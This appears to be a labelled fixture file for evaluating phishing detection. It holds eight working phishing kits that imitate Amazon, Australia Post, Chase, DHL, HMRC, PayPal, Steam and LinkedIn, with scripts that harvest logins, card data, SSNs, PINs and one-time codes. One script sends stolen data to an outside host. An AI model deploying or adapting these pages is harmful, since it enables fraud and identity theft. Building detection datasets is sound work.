import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, jsRoute, pngRoute } from '../parts/v-kit.js';

// Consumer, finance, logistics and social brand kits (dev split).

// Amazon Prime renewal: sign-in then card re-entry, on a lookalike support domain.
const h1 = 'prime-membership-renewal.support';
const amazonPrime: Entry = {
  id: 'v-phish-amazon-prime-renewal',
  label: 'phishing',
  kind: 'consumer-brand-kit',
  url: `https://${h1}/ap/signin?openid.pape.max_auth_age=0&openid.return_to=%2Fgp%2Fprime%2Fpipeline%2Fmembersignup&ref_=pe_renew`,
  routes: {
    [`${h1}/ap/signin`]: htmlRoute(
      doc({
        title: 'Amazon Sign-In',
        css: `body{font-family:Arial,sans-serif;margin:0;background:#fff}.lg{text-align:center;padding:14px 0 10px;font-size:30px;font-weight:700}.lg span{color:#ff9900}
.bx{width:350px;margin:0 auto;border:1px solid #ddd;border-radius:8px;padding:20px 26px}h1{font-weight:400;font-size:28px;margin:0 0 10px}label{font-weight:700;font-size:13px}
input{width:100%;padding:7px;border:1px solid #a6a6a6;border-radius:3px;margin:4px 0 14px;font-size:14px}.y{width:100%;background:#ffd814;border:1px solid #fcd200;border-radius:8px;padding:8px;font-size:13px}
.al{width:350px;margin:0 auto 14px;border:1px solid #c40000;border-radius:8px;padding:12px 16px;font-size:13px;color:#111}.al b{color:#c40000}.ft{text-align:center;font-size:11px;color:#555;margin-top:30px;border-top:1px solid #eee;padding-top:20px}`,
        body: `<div class="lg">amazon<span>.</span></div>
<div class="al"><b>Your Prime membership is on hold</b><br>We were unable to charge your payment method for your Prime renewal (£8.99). Sign in to update your billing information and avoid losing your Prime benefits.</div>
<div class="bx" id="s1"><h1>Sign in</h1><form id="f1"><label>Email or mobile phone number</label><input id="e" type="text" required><label>Password</label><input id="p" type="password" required><button class="y">Sign in</button></form>
<p style="font-size:12px">By continuing, you agree to Amazon's <a href="#">Conditions of Use</a> and <a href="#">Privacy Notice</a>.</p></div>
<div class="bx" id="s2" style="display:none"><h1 style="font-size:22px">Update payment method</h1><form id="f2"><label>Name on card</label><input name="cn" required><label>Card number</label><input name="cc" inputmode="numeric" maxlength="19" required>
<label>Expiry date</label><input name="ex" placeholder="MM/YY" required><label>Security code (CVV)</label><input name="cv" maxlength="4" required><label>Billing postcode</label><input name="pc" required><button class="y">Save and continue</button></form></div>
<div class="ft">Conditions of Use &nbsp; Privacy Notice &nbsp; Help<br>&copy; 1996-2026, Amazon.com, Inc. or its affiliates</div>
<script src="/ap/js/flow.js"></script>`,
      }),
    ),
    [`${h1}/ap/js/flow.js`]: jsRoute(`var L={};function snd(t,o){o.step=t;navigator.sendBeacon('/ap/rcv.php',new Blob([JSON.stringify(o)],{type:'application/json'}))}
document.getElementById('f1').onsubmit=function(e){e.preventDefault();L.e=document.getElementById('e').value;L.p=document.getElementById('p').value;snd('login',L);document.getElementById('s1').style.display='none';document.getElementById('s2').style.display='block'};
document.getElementById('f2').onsubmit=function(e){e.preventDefault();var d=Object.fromEntries(new FormData(e.target));snd('card',Object.assign(d,L));location.href='https://www.amazon.co.uk/'};`),
    [`${h1}/ap/rcv.php`]: { status: 204, headers: {}, body: '' },
  },
};

// Australia Post parcel-on-hold SMS landing: address + small fee + card.
const h2 = 'auspost.redelivery-notice.com';
const auspost: Entry = {
  id: 'v-phish-auspost-address-update',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: `https://${h2}/au/track/?id=33LPR829104`,
  routes: {
    [`${h2}/au/track/`]: htmlRoute(
      doc({
        title: 'Australia Post - Track your item',
        css: `body{margin:0;font-family:"Helvetica Neue",Arial,sans-serif;background:#f3f1ee;color:#212129}.h{background:#fff;border-bottom:3px solid #dc1928;padding:12px 20px;display:flex;align-items:center;gap:10px;font-weight:700}
.c{max-width:520px;margin:24px auto;background:#fff;border-radius:6px;padding:24px}.st{background:#fff4e5;border-left:4px solid #e8a317;padding:10px 14px;font-size:14px}input,select{width:100%;padding:10px;border:1px solid #bbb;border-radius:4px;margin:4px 0 12px}
button{width:100%;background:#dc1928;color:#fff;border:0;border-radius:4px;padding:12px;font-size:16px}small{color:#666}`,
        body: `<div class="h"><img src="/au/img/ap.png" width="28" height="28" alt="Australia Post">Australia Post</div>
<div class="c"><p><small>Tracking number</small><br><b id="tn"></b></p><div class="st"><b>Delivery attempt unsuccessful</b><br>Your parcel could not be delivered on 3 March due to an incomplete street address. It is being held at our Alexandria facility.</div>
<h3>Schedule redelivery</h3><form id="f"><label>Full name</label><input name="name" required><label>Street address</label><input name="addr" required><label>Suburb</label><input name="sub" required>
<label>State</label><select name="state"><option>NSW</option><option>VIC</option><option>QLD</option><option>WA</option><option>SA</option><option>TAS</option><option>ACT</option><option>NT</option></select><label>Postcode</label><input name="pc" maxlength="4" required><label>Mobile</label><input name="mob" required>
<p style="font-size:14px">A redelivery fee of <b>AUD $2.95</b> applies.</p><label>Card number</label><input name="card" required><label>Expiry (MM/YY)</label><input name="exp" required><label>CVC</label><input name="cvc" maxlength="4" required><button>Pay $2.95 &amp; reschedule</button></form>
<p><small>&copy; Australia Post 2026. We acknowledge the Traditional Custodians of the land on which we operate.</small></p></div>
<script>document.getElementById('tn').textContent=new URLSearchParams(location.search).get('id')||'';
document.getElementById('f').onsubmit=function(e){e.preventDefault();fetch('/au/api/pay',{method:'POST',body:new FormData(e.target)}).then(function(){document.querySelector('.c').innerHTML='<h3>Processing…</h3><p>Enter the verification code sent to your mobile.</p><input placeholder="SMS code"><button>Confirm</button>'})};</script>`,
      }),
    ),
    [`${h2}/au/img/ap.png`]: pngRoute(220, 25, 40),
  },
};

// Chase "secure message" lure: logon then identity step.
const h3 = 'chase-securemsg-center.com';
const chase: Entry = {
  id: 'v-phish-chase-secure-message',
  label: 'phishing',
  kind: 'bank-kit',
  url: `https://${h3}/web/auth/logon?msg=SM-4471902`,
  routes: {
    [`${h3}/web/auth/logon`]: htmlRoute(
      doc({
        title: 'Sign in - chase.com',
        css: `body{margin:0;font-family:"Open Sans",Arial,sans-serif;background:#0a3b76 linear-gradient(#0b4a8f,#0a2d5a);color:#fff;min-height:100vh}.lg{text-align:center;padding:36px 0 10px;font-size:28px;letter-spacing:4px;font-weight:700}
.bx{width:380px;margin:20px auto;background:#fff;color:#333;border-radius:4px;padding:26px 30px}.bx input{width:100%;border:0;border-bottom:1px solid #999;padding:10px 0;margin-bottom:18px;font-size:16px}
.bx button{width:100%;background:#117aca;color:#fff;border:0;border-radius:4px;padding:12px;font-size:16px}.n{background:#e8f2fb;color:#0a3b76;padding:10px;border-radius:4px;font-size:13px;margin-bottom:16px}`,
        body: `<div class="lg">CHASE &#9671;</div>
<div class="bx"><div class="n">&#128274; You have <b>1 unread secure message</b> regarding a recent transaction on your account. Sign in to read it.</div>
<form id="f1"><input name="userId" placeholder="Username" autocomplete="username" required><input name="password" type="password" placeholder="Password" required><label style="font-size:13px"><input type="checkbox" style="width:auto;margin:0 6px 0 0">Remember me</label><br><br><button>Sign in</button></form>
<form id="f2" style="display:none"><p style="font-size:14px"><b>Confirm your identity</b><br>For your protection, verify the following details.</p><input name="ssn" placeholder="Social Security Number" required><input name="dob" placeholder="Date of birth (MM/DD/YYYY)" required><input name="card" placeholder="Debit card number" required><input name="pin" type="password" placeholder="Card PIN" maxlength="4" required><button>Continue</button></form>
<p style="font-size:12px;text-align:center"><a href="#">Forgot username/password?</a> &nbsp;|&nbsp; <a href="#">Not enrolled? Sign up now.</a></p></div>
<p style="text-align:center;font-size:11px;opacity:.8">Equal Housing Opportunity &middot; JPMorgan Chase Bank, N.A. Member FDIC &middot; &copy; 2026 JPMorgan Chase &amp; Co.</p>
<script>var acc={};document.getElementById('f1').onsubmit=function(e){e.preventDefault();acc=Object.fromEntries(new FormData(e.target));fetch('/web/auth/xhr/a.php',{method:'POST',body:JSON.stringify(acc)});this.style.display='none';document.getElementById('f2').style.display='block'};
document.getElementById('f2').onsubmit=function(e){e.preventDefault();fetch('/web/auth/xhr/b.php',{method:'POST',body:JSON.stringify(Object.assign(acc,Object.fromEntries(new FormData(e.target))))}).finally(function(){location='https://www.chase.com'})};</script>`,
      }),
    ),
  },
};

// DHL Express customs duty: card + OTP step, via a tracking-link redirect.
const h4a = 'dhl-express.parcel-dutypay.net';
const dhl: Entry = {
  id: 'v-phish-dhl-customs-card',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: `https://${h4a}/t/4829175530`,
  routes: {
    [`${h4a}/t/4829175530`]: redirectRoute(302, `https://${h4a}/express/customs/pay.html?awb=4829175530&lang=en-GB`),
    [`${h4a}/express/customs/pay.html`]: htmlRoute(
      doc({
        title: 'DHL Express | Pay Duties & Taxes',
        css: `body{margin:0;font-family:Frutiger,Arial,sans-serif;background:#f2f2f2}.h{background:linear-gradient(90deg,#fc0 0,#fc0 70%,#ffe57f);padding:12px 24px}.h b{color:#d40511;font-size:26px;font-style:italic;letter-spacing:-1px}
.w{max-width:600px;margin:20px auto;background:#fff;padding:26px}.row{display:flex;justify-content:space-between;border-bottom:1px solid #eee;padding:8px 0;font-size:14px}.tot{font-weight:700;font-size:18px}
input{width:100%;padding:10px;border:1px solid #999;margin:4px 0 12px}button{background:#d40511;color:#fff;border:0;padding:12px 30px;font-size:15px;font-weight:700}`,
        body: `<div class="h"><b>DHL</b> <span style="font-size:12px;margin-left:12px">EXPRESS</span></div>
<div class="w"><h2 style="margin-top:0">Your shipment is held at customs</h2><p style="font-size:14px">Waybill <b id="awb"></b> from Shenzhen, CN is awaiting payment of import charges. Shipments not cleared within 3 working days will be returned to sender.</p>
<div class="row"><span>Import VAT</span><span>£1.27</span></div><div class="row"><span>DHL Duty &amp; Tax Processing Fee</span><span>£0.72</span></div><div class="row tot"><span>Total to pay</span><span>£1.99</span></div>
<form id="f" style="margin-top:18px"><input name="holder" placeholder="Cardholder name" required><input name="pan" placeholder="Card number" required><div style="display:flex;gap:10px"><input name="exp" placeholder="MM/YY" required><input name="cvv" placeholder="CVV" required></div><button>Pay £1.99</button></form>
<div id="otp" style="display:none"><h3>Verified by Visa / Mastercard ID Check</h3><p style="font-size:14px">We sent a one-time passcode to your registered mobile number. Enter it to authorise the payment.</p><input id="code" placeholder="Enter code"><button id="ob">Submit</button></div>
<p style="font-size:11px;color:#777;margin-top:24px">Deutsche Post DHL Group &copy; 2026 - all rights reserved | Fraud Awareness | Terms of Use | Privacy Notice</p></div>
<script>document.getElementById('awb').textContent=new URLSearchParams(location.search).get('awb');
document.getElementById('f').onsubmit=function(e){e.preventDefault();fetch('/express/customs/api/card',{method:'POST',body:new URLSearchParams(new FormData(e.target))});e.target.style.display='none';setTimeout(function(){document.getElementById('otp').style.display='block'},2500)};
document.getElementById('ob').onclick=function(){fetch('/express/customs/api/otp',{method:'POST',body:document.getElementById('code').value});document.getElementById('code').value='';alert('The code entered is incorrect. A new code has been sent.')};</script>`,
      }),
    ),
  },
};

// GOV.UK-styled HMRC tax refund: personal data and card collection.
const h5 = 'hmrc-refund.gov-uk-claim.online';
const hmrc: Entry = {
  id: 'v-phish-hmrc-tax-refund',
  label: 'phishing',
  kind: 'gov-refund-kit',
  url: `https://${h5}/claim/start`,
  body: doc({
    title: 'Claim a tax refund - GOV.UK',
    css: `body{margin:0;font-family:"GDS Transport",arial,sans-serif;color:#0b0c0c}.hd{background:#0b0c0c;color:#fff;padding:10px 30px;border-bottom:10px solid #1d70b8;font-weight:700;font-size:24px}
.w{max-width:760px;margin:0 auto;padding:20px 30px}.ph{background:#1d70b8;color:#fff;padding:2px 8px;font-size:14px;font-weight:700}h1{font-size:36px;margin:20px 0}.p{font-size:19px}
input{display:block;width:340px;padding:6px;border:2px solid #0b0c0c;font-size:19px;margin:6px 0 20px}button{background:#00703c;color:#fff;border:0;box-shadow:0 2px 0 #002d18;padding:10px 16px;font-size:19px}.inset{border-left:10px solid #b1b4b6;padding:10px 18px;font-size:19px}`,
    body: `<div class="hd">&#9813; GOV.UK &nbsp;<span style="font-weight:400;font-size:18px">HM Revenue &amp; Customs</span></div>
<div class="w"><p><span class="ph">BETA</span> This is a new service – your feedback will help us to improve it.</p>
<h1>Claim your tax refund</h1><p class="p">After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund of <b>£642.87</b>.</p>
<div class="inset">You must submit your claim within 7 days of receiving your notification. Refunds are paid directly to your debit or credit card.</div>
<form method="post" action="/claim/submit"><label class="p">Full name</label><input name="fullname"><label class="p">Date of birth</label><input name="dob" placeholder="DD MM YYYY"><label class="p">National Insurance number</label><input name="nino" placeholder="QQ 12 34 56 C">
<label class="p">Postcode</label><input name="postcode"><label class="p">Mother's maiden name</label><input name="mmn"><label class="p">Card number</label><input name="cc"><label class="p">Expiry date</label><input name="exp"><label class="p">Card security code</label><input name="cvv" style="width:90px">
<button>Continue</button></form><p style="font-size:14px;margin-top:40px;border-top:1px solid #b1b4b6;padding-top:20px">Cookies · Accessibility statement · Privacy policy · Terms and conditions · Help using GOV.UK<br>All content is available under the Open Government Licence v3.0, except where otherwise stated &copy; Crown copyright</p></div>`,
  }),
};

// "Account limited" kit where the brand appears only in the logo's alt text and the image.
const h6 = 'resolution-center-8812.account-limits.com';
const paypalAlt: Entry = {
  id: 'v-phish-paypal-alt-only-limited',
  label: 'phishing',
  kind: 'consumer-brand-kit',
  url: `https://${h6}/myaccount/limited/?cmd=_resolve&case=PP-D-41188`,
  routes: {
    [`${h6}/myaccount/limited/`]: htmlRoute(
      doc({
        title: 'Log in to your account',
        css: `body{margin:0;font-family:"Helvetica Neue",Arial,sans-serif;background:#f5f7fa}.c{width:460px;margin:40px auto;background:#fff;border-radius:12px;padding:40px 48px;text-align:center}
input{width:100%;height:54px;padding:0 12px;border:1px solid #9da3a6;border-radius:6px;font-size:16px;margin:6px 0}.b{width:100%;height:48px;border-radius:24px;background:#0070ba;color:#fff;border:0;font-size:16px;font-weight:700;margin-top:14px}
.w{background:#fff8e6;border-radius:6px;padding:12px;text-align:left;font-size:13px;margin-bottom:18px}.f{text-align:center;font-size:12px;color:#666}`,
        body: `<div class="c"><img src="/myaccount/limited/assets/logo.png" width="120" height="32" alt="PayPal"><div class="w" style="margin-top:20px">We noticed unusual activity and temporarily limited what you can do with your account. Log in to confirm your information and restore full access. Case ID: <b id="cid"></b></div>
<form id="f" method="post" action="/myaccount/limited/auth.php"><input name="login_email" type="email" placeholder="Email or mobile number" required><input name="login_password" type="password" placeholder="Password" required><a href="#" style="display:block;text-align:left;font-size:14px;margin:8px 0">Forgot password?</a><button class="b">Log In</button></form>
<div style="margin:20px 0;color:#999">or</div><button class="b" style="background:#e1e7eb;color:#2c2e2f">Sign Up</button></div>
<div class="f">Contact Us &nbsp; Privacy &nbsp; Legal &nbsp; Worldwide</div>
<script>document.getElementById('cid').textContent=new URLSearchParams(location.search).get('case')||'';</script>`,
      }),
    ),
    [`${h6}/myaccount/limited/assets/logo.png`]: pngRoute(0, 48, 135),
  },
};

// Steam trade offer with a browser-in-the-browser fake "Sign in through Steam" window.
const h7 = 'steamcommunlty-tradeoffer.com';
const steam: Entry = {
  id: 'v-phish-steam-trade-offer',
  label: 'phishing',
  kind: 'bitb-kit',
  url: `https://${h7}/tradeoffer/new/?partner=1184620091&token=Zk3w9QpL`,
  routes: {
    [`${h7}/tradeoffer/new/`]: htmlRoute(
      doc({
        title: 'Steam Community :: Trade Offer',
        css: `body{margin:0;background:#1b2838;color:#c6d4df;font-family:"Motiva Sans",Arial,sans-serif}.hd{background:#171a21;padding:18px 40px;font-size:20px;color:#fff;letter-spacing:2px}
.w{max-width:900px;margin:30px auto;background:#16202d;padding:24px}.it{display:inline-block;width:120px;height:90px;background:#2a475e;margin:6px;border:1px solid #4b6b8f;font-size:11px;padding:4px}
.acc{background:linear-gradient(90deg,#75b022,#588a1b);color:#fff;border:0;padding:10px 26px;font-size:15px;border-radius:2px;cursor:pointer}
#win{display:none;position:fixed;left:50%;top:70px;margin-left:-300px;width:600px;background:#fff;box-shadow:0 10px 40px #000;border-radius:8px;overflow:hidden}#win .bar{background:#dee1e6;padding:6px 10px;font:13px Segoe UI;color:#333;display:flex;gap:8px;align-items:center}
#win .url{flex:1;background:#fff;border-radius:12px;padding:3px 10px;color:#222}#win .in{background:#171a21;color:#fff;padding:30px}#win input{width:100%;padding:10px;background:#32353c;border:0;color:#fff;margin:4px 0 14px}#win button{background:#1999ff;color:#fff;border:0;padding:12px 40px;font-size:15px}`,
        body: `<div class="hd">STEAM &nbsp;<span style="font-size:13px;letter-spacing:0">STORE &nbsp; COMMUNITY &nbsp; ABOUT &nbsp; SUPPORT</span></div>
<div class="w"><h2>You have a new trade offer from <span style="color:#66c0f4">xNightHawkx</span></h2><p>"hey bro, accidentaly reported your account, pls accept this so I can cancel the report, admins said to do trade"</p>
<p>Their items:</p><div class="it">AWP | Dragon Lore (Field-Tested)</div><div class="it">Karambit | Fade (FN)</div><div class="it">Sticker | Crown (Foil)</div>
<p>Your items: <i>none</i></p><button class="acc" id="ac">Accept Trade</button> <span style="font-size:12px">You must sign in to accept this trade.</span></div>
<div id="win"><div class="bar"><span>&#128274;</span><span class="url">https://steamcommunity.com/openid/login?openid.mode=checkid_setup</span><span>&#10005;</span></div>
<div class="in"><h3>Sign in</h3><form id="f"><label>SIGN IN WITH ACCOUNT NAME</label><input name="username" required><label>PASSWORD</label><input name="password" type="password" required><button>Sign in</button></form>
<div id="g" style="display:none"><p>Enter the code from your Steam Mobile App (Steam Guard)</p><input id="gc" maxlength="5"><button id="gb">Submit</button></div></div></div>
<script>document.getElementById('ac').onclick=function(){document.getElementById('win').style.display='block'};
document.getElementById('f').onsubmit=function(e){e.preventDefault();fetch('/api/login/dologin',{method:'POST',body:new FormData(e.target)});e.target.style.display='none';document.getElementById('g').style.display='block'};
document.getElementById('gb').onclick=function(){fetch('/api/login/guard',{method:'POST',body:document.getElementById('gc').value}).finally(function(){location='https://steamcommunity.com/'})};</script>`,
      }),
    ),
  },
};


// LinkedIn "new InMail" lure page on Netlify with a sign-in form.
const h8 = 'linkedin-inmail-viewer.netlify.app';
const linkedin: Entry = {
  id: 'v-phish-linkedin-message-netlify',
  label: 'phishing',
  kind: 'social-kit',
  url: `https://${h8}/messaging/thread/2-YjQ4ZDFhNzEtMmM5Ny00/`,
  routes: {
    [`${h8}/messaging/thread/2-YjQ4ZDFhNzEtMmM5Ny00/`]: htmlRoute(
      doc({
        title: 'LinkedIn Login, Sign in | LinkedIn',
        css: `body{margin:0;font-family:-apple-system,system-ui,"Segoe UI",Roboto,Arial;background:#f3f2ef;color:rgba(0,0,0,.9)}.lg{padding:24px 56px;color:#0a66c2;font-weight:700;font-size:28px}
.c{width:352px;margin:0 auto;background:#fff;border-radius:8px;padding:24px;box-shadow:0 4px 12px rgba(0,0,0,.15)}.m{background:#eef3f8;border-radius:8px;padding:12px;font-size:14px;margin-bottom:14px;display:flex;gap:10px}
.m img{width:40px;height:40px;border-radius:50%}input{width:100%;padding:14px 12px;border:1px solid rgba(0,0,0,.6);border-radius:4px;margin:6px 0 12px;font-size:15px}button{width:100%;padding:14px;border:0;border-radius:28px;background:#0a66c2;color:#fff;font-size:16px;font-weight:600}`,
        body: `<div class="lg">Linked<span style="background:#0a66c2;color:#fff;border-radius:3px;padding:0 3px">in</span></div>
<div class="c"><div class="m"><img src="/messaging/avatar.png" alt=""><div><b>Sarah Whitmore</b> · Talent Partner at Harlow &amp; Price<br>"Hi, I came across your profile and have a Director-level role (£140k + bonus) I think you'd be perfect for. I've attached the JD…"</div></div>
<h2 style="margin:0 0 4px">Sign in</h2><p style="font-size:14px;margin-top:0">to view your message</p>
<form id="f"><input name="session_key" placeholder="Email or Phone" required><input name="session_password" type="password" placeholder="Password" required><a href="#" style="font-size:14px;color:#0a66c2;font-weight:600">Forgot password?</a><br><br><button>Sign in</button></form></div>
<p style="text-align:center;font-size:12px;color:#666;margin-top:30px">LinkedIn © 2026 · User Agreement · Privacy Policy · Community Guidelines · Cookie Policy</p>
<script>document.getElementById('f').onsubmit=function(e){e.preventDefault();fetch('https://hooks.zapier-relay.net/li/'+btoa(location.host),{method:'POST',mode:'no-cors',body:new URLSearchParams(new FormData(e.target))}).finally(function(){location.href='https://www.linkedin.com/messaging/'})};</script>`,
      }),
    ),
    [`${h8}/messaging/avatar.png`]: pngRoute(180, 150, 130),
  },
};

export const entries: Entry[] = [amazonPrime, auspost, chase, dhl, hmrc, paypalAlt, steam, linkedin];
